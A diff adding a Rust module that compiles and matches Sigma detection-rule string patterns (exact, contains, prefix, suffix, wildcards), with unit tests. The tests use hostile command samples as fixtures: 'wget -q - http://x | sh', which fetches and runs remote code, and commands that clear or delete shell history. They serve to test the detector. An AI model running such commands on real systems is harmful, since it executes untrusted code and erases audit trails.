@@ -1,0 +1,204 @@
+//! Sigma value patterns: exact, contains, startswith, endswith, and wildcards (`*`, `?`, with
+//! `\*`, `\?`, `\\` escapes), ASCII-case-insensitive unless `cased`. Matching never allocates.
+
+/// How a string value is compared.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum StrKind {
+    /// The whole value.
+    Exact,
+    /// Anywhere in the value.
+    Contains,
+    /// At the start.
+    StartsWith,
+    /// At the end.
+    EndsWith,
+    /// Wildcards: the parts between `*` (each `?` one byte), anchored at both ends.
+    Glob,
+}
+
+/// One compiled string pattern.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct StrPattern {
+    kind: StrKind,
+    /// The literal, lowercased unless `cased`. For `Glob`, `*` and `?` are the wildcards and
+    /// `literal_mask` says which bytes are literal (escaped) stars or question marks.
+    needle: Vec<u8>,
+    literal: Vec<bool>,
+    cased: bool,
+}
+
+/// A Sigma string with its wildcards resolved: the bytes, and which of them are wildcards.
+fn unescape_wildcards(s: &str) -> (Vec<u8>, Vec<bool>) {
+    let mut bytes = Vec::with_capacity(s.len());
+    let mut wild = Vec::with_capacity(s.len());
+    let mut it = s.bytes().peekable();
+    while let Some(b) = it.next() {
+        match b {
+            b'\\' if matches!(it.peek(), Some(b'*' | b'?' | b'\\')) => {
+                bytes.push(it.next().expect("peeked"));
+                wild.push(false);
+            }
+            b'*' | b'?' => {
+                bytes.push(b);
+                wild.push(true);
+            }
+            _ => {
+                bytes.push(b);
+                wild.push(false);
+            }
+        }
+    }
+    (bytes, wild)
+}
+
+impl StrPattern {
+    /// Compiles a Sigma string for a match `kind` (from the modifiers; `Exact` for a plain
+    /// field value). Wildcards turn any kind into a glob with the matching implicit stars.
+    pub fn new(value: &str, kind: StrKind, cased: bool) -> Self {
+        let (mut bytes, mut wild) = unescape_wildcards(value);
+        if !cased {
+            bytes.make_ascii_lowercase();
+        }
+        if !wild.iter().any(|&w| w) {
+            return Self {
+                kind,
+                needle: bytes,
+                literal: Vec::new(),
+                cased,
+            };
+        }
+        // Leading / trailing stars for contains, startswith and endswith.
+        if matches!(kind, StrKind::Contains | StrKind::EndsWith) {
+            bytes.insert(0, b'*');
+            wild.insert(0, true);
+        }
+        if matches!(kind, StrKind::Contains | StrKind::StartsWith) {
+            bytes.push(b'*');
+            wild.push(true);
+        }
+        Self {
+            kind: StrKind::Glob,
+            needle: bytes,
+            literal: wild.iter().map(|w| !w).collect(),
+            cased,
+        }
+    }
+
+    fn eq(&self, a: u8, b: u8) -> bool {
+        if self.cased {
+            a == b
+        } else {
+            a.to_ascii_lowercase() == b
+        }
+    }
+
+    fn eq_slice(&self, hay: &[u8], needle: &[u8]) -> bool {
+        hay.len() == needle.len() && hay.iter().zip(needle).all(|(&h, &n)| self.eq(h, n))
+    }
+
+    fn find(&self, hay: &[u8], needle: &[u8]) -> bool {
+        if needle.is_empty() {
+            return true;
+        }
+        if hay.len() < needle.len() {
+            return false;
+        }
+        let first = needle[0];
+        (0..=hay.len() - needle.len())
+            .any(|i| self.eq(hay[i], first) && self.eq_slice(&hay[i..i + needle.len()], needle))
+    }
+
+    /// Whether `value` matches.
+    pub fn matches(&self, value: &[u8]) -> bool {
+        match self.kind {
+            StrKind::Exact => self.eq_slice(value, &self.needle),
+            StrKind::Contains => self.find(value, &self.needle),
+            StrKind::StartsWith => {
+                value.len() >= self.needle.len()
+                    && self.eq_slice(&value[..self.needle.len()], &self.needle)
+            }
+            StrKind::EndsWith => {
+                value.len() >= self.needle.len()
+                    && self.eq_slice(&value[value.len() - self.needle.len()..], &self.needle)
+            }
+            StrKind::Glob => self.glob(value, 0, 0),
+        }
+    }
+
+    /// Wildcard match with the classic backtracking on the last star: linear for patterns
+    /// without `?` next to stars, and never worse than O(len(value) * len(pattern)).
+    fn glob(&self, v: &[u8], mut vi: usize, mut pi: usize) -> bool {
+        let p = &self.needle;
+        let literal = |i: usize| self.literal[i];
+        let mut star: Option<(usize, usize)> = None;
+        while vi < v.len() {
+            if pi < p.len() && !literal(pi) && p[pi] == b'*' {
+                star = Some((pi, vi));
+                pi += 1;
+            } else if pi < p.len() && ((!literal(pi) && p[pi] == b'?') || self.eq(v[vi], p[pi])) {
+                pi += 1;
+                vi += 1;
+            } else if let Some((sp, sv)) = star {
+                pi = sp + 1;
+                vi = sv + 1;
+                star = Some((sp, sv + 1));
+            } else {
+                return false;
+            }
+        }
+        while pi < p.len() && !literal(pi) && p[pi] == b'*' {
+            pi += 1;
+        }
+        pi == p.len()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn m(value: &str, kind: StrKind, hay: &str) -> bool {
+        StrPattern::new(value, kind, false).matches(hay.as_bytes())
+    }
+
+    #[test]
+    fn kinds_and_case() {
+        assert!(m("Admin", StrKind::Exact, "admin"));
+        assert!(!m("admin", StrKind::Exact, "admins"));
+        assert!(m(
+            "history -c",
+            StrKind::Contains,
+            "user ran HISTORY -C now"
+        ));
+        assert!(m("/tmp/", StrKind::StartsWith, "/TMP/x"));
+        assert!(m(".sh", StrKind::EndsWith, "run.SH"));
+        assert!(!StrPattern::new("Admin", StrKind::Exact, true).matches(b"admin"));
+    }
+
+    #[test]
+    fn wildcards_and_escapes() {
+        assert!(m(
+            "rm *sh_history",
+            StrKind::Contains,
+            "sudo rm ~/.bash_history"
+        ));
+        assert!(m(
+            "wget * - http* | sh",
+            StrKind::Contains,
+            "wget -q - http://x | sh"
+        ));
+        assert!(!m(
+            "wget * - http* | sh",
+            StrKind::Contains,
+            "wget -q - ftp://x | sh"
+        ));
+        assert!(m("a?c", StrKind::Exact, "abc"));
+        assert!(!m("a?c", StrKind::Exact, "abbc"));
+        assert!(m(r"100\*", StrKind::Exact, "100*"));
+        assert!(!m(r"100\*", StrKind::Exact, "1000"));
+        assert!(m(r"a\\b", StrKind::Exact, r"a\b"));
+        assert!(m("*", StrKind::Exact, ""));
+        assert!(m("a*b*c", StrKind::Exact, "aXXbYYc"));
+        assert!(!m("a*b*c", StrKind::Exact, "aXXbYY"));
+    }
+}
